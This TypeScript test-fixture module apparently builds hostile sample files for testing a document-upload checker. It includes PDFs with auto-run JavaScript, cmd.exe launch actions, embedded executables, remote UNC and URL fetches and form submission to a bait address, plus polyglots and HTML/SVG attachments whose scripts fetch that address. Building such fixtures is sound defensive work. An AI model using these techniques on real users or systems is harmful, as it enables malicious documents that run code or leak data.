import { pdfOf, stream } from "#tests/factories/documents/hostile.ts";
import { zipOf } from "#tests/factories/documents/zip.ts";

const latin = (text: string) => Buffer.from(text, "latin1");
const PAGE = "/Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>";
const TEXT =
  "BT /F1 11 Tf 60 780 Td (Facture no ACT-2026-1 du 12/10/2026) Tj 0 -20 Td (Total TTC : 1 200,00 EUR, net a payer 1 200,00 EUR) Tj ET";

/** A sound page of text that `catalog` or `page` give something to do, with what they name as objects from number 6. */
function activePdf({ catalog = "", page = "", more = [] as (string | Buffer)[] }): Buffer {
  return Buffer.from(
    pdfOf([
      `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
      "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
      `<< ${PAGE} ${page} >>`,
      stream("", latin(TEXT)),
      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
      ...more,
    ]),
  );
}

/** The start of a program for Windows. */
const PROGRAM = latin(
  `MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0${"\0".repeat(200)}This program cannot be run in DOS mode.`,
);

/** PDFs that would do something where a reader lets them, by what they do. `bait`: an address of the web that nobody may ask. */
export function activePdfs(bait: string): Readonly<Record<string, Uint8Array>> {
  const script = `app.alert(1); this.submitForm('${bait}/form'); app.launchURL('${bait}/url');`;
  const all: Record<string, Buffer> = {
    script: activePdf({ catalog: "/OpenAction 6 0 R", more: [`<< /S /JavaScript /JS (${escaped(script)}) >>`] }),
    namedScript: activePdf({
      catalog: "/Names << /JavaScript << /Names [(a) 6 0 R] >> >>",
      more: [`<< /S /JavaScript /JS (${escaped(script)}) >>`],
    }),
    scriptOfPage: activePdf({ page: `/AA << /O << /S /JavaScript /JS (${escaped(script)}) >> >>` }),
    launch: activePdf({
      catalog: "/OpenAction 6 0 R",
      more: ["<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"],
    }),
    embeddedProgram: activePdf({
      catalog: "/Names << /EmbeddedFiles << /Names [(factur-x.exe) 6 0 R] >> >>",
      more: [
        "<< /Type /Filespec /F (facture.exe) /UF (facture.exe) /EF << /F 7 0 R >> >>",
        stream("/Type /EmbeddedFile /Subtype /application#2Foctet-stream", PROGRAM),
      ],
    }),
    openEmbedded: activePdf({
      catalog:
        "/OpenAction << /S /GoToE /T << /R /C /N (b.pdf) >> >> /Names << /EmbeddedFiles << /Names [(b.pdf) 6 0 R] >> >>",
      more: ["<< /Type /Filespec /F (b.pdf) /EF << /F 7 0 R >> >>", stream("/Type /EmbeddedFile", PROGRAM)],
    }),
    elsewhere: activePdf({ catalog: `/OpenAction << /S /URI /URI (${bait}/open) >>` }),
    scriptAddress: activePdf({
      page: "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:alert(1)) >> >>]",
    }),
    remote: activePdf({ catalog: `/OpenAction << /S /GoToR /F << /FS /URL /F (${bait}/remote.pdf) >> /D [0 /Fit] >>` }),
    sharedFolder: activePdf({
      catalog: "/OpenAction << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\share\\\\x.pdf) /D [0 /Fit] >>",
    }),
    sendsForm: activePdf({
      catalog: `/AcroForm << /Fields [] /NeedAppearances true >> /OpenAction << /S /SubmitForm /F << /FS /URL /F (${bait}/submit) >> >>`,
    }),
    importsData: activePdf({ catalog: `/OpenAction << /S /ImportData /F (${bait}/data.fdf) >>` }),
    xfa: activePdf({
      catalog: "/AcroForm << /Fields [] /XFA 6 0 R >>",
      more: [
        stream(
          "",
          latin(
            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">${script}</script></event></subform></template></xdp:xdp>`,
          ),
        ),
      ],
    }),
    streamElsewhere: activePdf({
      page: "/Annots [6 0 R]",
      more: [
        `<< /Type /Annot /Subtype /Stamp /Rect [0 0 9 9] /AP << /N << /F << /FS /URL /F (${bait}/ap) >> /Length 0 >> >> >>`,
      ],
    }),
    media: activePdf({
      page: `/Annots [<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (${bait}/film.avi) >> /A true >>]`,
    }),
  };
  return asBytes(all);
}

/** Files that are a sound PDF and something else at once, by what else they are. */
export function polyglots(): Readonly<Record<string, Uint8Array>> {
  const pdf = activePdf({});
  const page = "<!DOCTYPE html><html><body onload=alert(1)><script>window.__ran=1</script><!--\n";
  const zip = Buffer.from(zipOf([{ name: "facture.exe", content: PROGRAM.toString("latin1") }]));
  return asBytes({
    pageThenPdf: Buffer.concat([latin(page), pdf, latin("--></body></html>")]),
    pdfThenPage: Buffer.concat([pdf, latin(page)]),
    pageInComment: Buffer.concat([latin(`%PDF-1.5\n%${page.replaceAll("\n", " ")}\n`), pdf.subarray(9)]),
    pdfThenZip: Buffer.concat([pdf, zip]),
    zipThenPdf: Buffer.concat([zip, pdf]),
    scriptThenPdf: Buffer.concat([latin("/*"), pdf, latin("*/alert(1)")]),
    programThenPdf: Buffer.concat([PROGRAM, pdf]),
    pictureThenPdf: Buffer.concat([latin("GIF89a/*"), pdf]),
    pictureTooThenPdf: Buffer.concat([
      Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0x00, 0x40]),
      Buffer.alloc(62, 0x20),
      pdf,
      Buffer.from([0xff, 0xd9]),
    ]),
    shellThenPdf: Buffer.concat([latin("#!/bin/sh\nexec calc\n"), pdf]),
  });
}

/** What a browser would run as it is, under names that may be attached. `bait` as above. */
export function activeAttachments(bait: string): Readonly<Record<string, Uint8Array>> {
  const run = `<script>window.__ran=1;fetch('${bait}/ran')</script>`;
  return asBytes({
    "page.html": latin(`<?xml version="1.0"?><html><body>${run}</body></html>`),
    "page.htm": latin(
      `<html><head><meta http-equiv="refresh" content="0;url=${bait}/away"/></head><body>${run}</body></html>`,
    ),
    "page.xhtml": latin(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>${run}</body></html>`),
    "image.svg": latin(
      `<svg xmlns="http://www.w3.org/2000/svg" onload="window.__ran=1"><image href="${bait}/image"/></svg>`,
    ),
    "style.xml": latin(`<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${bait}/style.xsl"?><a>${run}</a>`),
    "texte.txt": latin(`<html><body>${run}</body></html>`),
    "tableau.csv": latin(`<html><body>${run}</body></html>;1`),
  });
}

const escaped = (text: string) => text.replace(/[()\\]/g, (char) => `\\${char}`);
const asBytes = (files: Record<string, Buffer>) =>
  Object.fromEntries(Object.entries(files).map(([name, bytes]) => [name, new Uint8Array(bytes)]));
